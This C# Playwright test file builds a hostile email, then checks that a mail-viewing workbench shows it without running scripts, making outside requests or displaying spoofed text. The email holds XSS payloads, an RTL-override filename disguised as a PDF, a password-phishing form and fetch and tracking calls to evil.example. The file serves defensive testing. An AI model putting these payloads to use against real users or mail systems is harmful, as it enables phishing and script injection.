using System.Text;
using Microsoft.Playwright;

namespace Hikeshi.Browser.Tests.Workbench;

/// <summary>A mail that attacks whoever looks at it.</summary>
public sealed class HostileMailTests(Chromium chromium, PublishedWorkbench workbench)
{
    const string Evil = "https://evil.example";

    /// <summary>Runs, reverses, covers, submits, loads, leads away.</summary>
    static string Mail()
    {
        const string Name = "請求書\u202Efdp.exe\u2066<script>document.title='run'</script>\"><img src=x onerror=alert(1)>";
        var to = string.Join(",\r\n ", Enumerable.Range(0, 10_000).Select(i => $"\"\u202E{i}\u202C 花子\" <u{i}@c.example>"));
        var html = $$"""
            <html><head><meta http-equiv="refresh" content="0;url={{Evil}}/away"><base href="{{Evil}}/"><link rel="stylesheet" href="{{Evil}}/x.css">
            <style>@import url({{Evil}}/y.css); * { position: fixed !important; inset: 0; z-index: 2147483647; background: red url({{Evil}}/z.png) }</style></head>
            <body onload="top.location='{{Evil}}/top'"><p>本文です</p><script>top.document.title = 'run'; fetch('{{Evil}}/fetch')</script>
            <form action="{{Evil}}/phish" method="post"><input name="password" autofocus><button>送信</button></form>
            <div style="position:fixed;inset:0;z-index:99999;background:#fff">cover</div><img src="{{Evil}}/pixel.png" width="1" height="1"><iframe src="{{Evil}}/frame"></iframe>
            <svg><script>alert(1)</script><animate onbegin="alert(2)"/></svg><video src="{{Evil}}/v" autoplay></video><a href="{{Evil}}/link" target="_top">https://bank.example</a>
            <a href="javascript:alert(3)">x</a>{{string.Concat(Enumerable.Repeat("<div>", 3000))}}</body></html>
            """;
        return $"From: \"{Name}\" <a@evil.example>\r\nTo: {to}\r\nSubject: {Name}\r\nDate: Fri, 4 Sep 2020 12:00:00 +0900\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
            + $"--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n--b\r\nContent-Type: application/octet-stream; name=\"{Name}\"\r\nContent-Disposition: attachment; filename=\"{Name}\"\r\n\r\nMZ\r\n--b--\r\n";
    }

    [Theory]
    [InlineData(1200)]
    [InlineData(360)]
    public async Task Nothing_of_it_runs_covers_the_page_turns_its_text_around_or_asks_elsewhere(int width)
    {
        await using var lead = await workbench.LeadAsync(chromium, width: width);
        var page = await lead.NewPageAsync();
        var outside = page.Watch(workbench.Address);
        var @case = await workbench.CaseOfItsOwnAsync(page);
        await page.Locator("#files-reported").SetInputFilesAsync(new FilePayload { Name = "領収書\u202Efdp.eml", MimeType = "message/rfc822", Buffer = Encoding.UTF8.GetBytes(Mail()) });
        await page.Locator("form[data-drop]", new() { Has = page.Locator("#files-reported") }).Locator("button[type=submit]").ClickAsync();
        await page.Locator("#run", new() { HasText = "前回の読み取り" }).WaitForAsync();
        await LookAsync("/evidence");
        await LookAsync("/persons");
        await LookAsync("/messages");
        var mail = (await page.Locator("main table a[href*='/messages/']").First.GetAttributeAsync("href"))!;
        foreach (var view in new[] { "mail", "headers", "files", "html", "source" })
        {
            await LookAsync(mail[@case.Length..] + "?view=" + view);
            if (view != "html") continue;
            var frame = page.FrameLocator("iframe.mailframe");
            await frame.GetByText("本文です").WaitForAsync();
            Assert.Equal(0, await frame.Locator("script, form, input, img, iframe, link, meta[http-equiv=refresh], base, video, svg").CountAsync());
            Assert.False(await frame.GetByText("cover").EvaluateAsync<bool>("e => getComputedStyle(e).position === 'fixed'"));
        }
        Assert.Empty(outside);

        async Task LookAsync(string path)
        {
            await page.GotoAsync(workbench.Address + @case + path);
            Assert.NotEqual("run", await page.TitleAsync());
            Assert.True(await page.FitsAsync(), path);
            await page.KeepAsync($"hostile-{width}-{path.Replace('/', '_').Replace('?', '_')}");
            var html = await page.ContentAsync();
            Assert.DoesNotMatch("[\u202A-\u202E\u2066-\u2069]", html);
            Assert.True(Encoding.UTF8.GetByteCount(html) < 100_000, $"{path} has {html.Length} characters");
            // What is pressed is the page's own.
            Assert.True(await page.EvaluateAsync<bool>("(a => { const r = a.getBoundingClientRect(); return a.contains(document.elementFromPoint(r.x + r.width / 2, r.y + r.height / 2)); })(document.querySelector('.top .brand'))"), path);
        }
    }
}
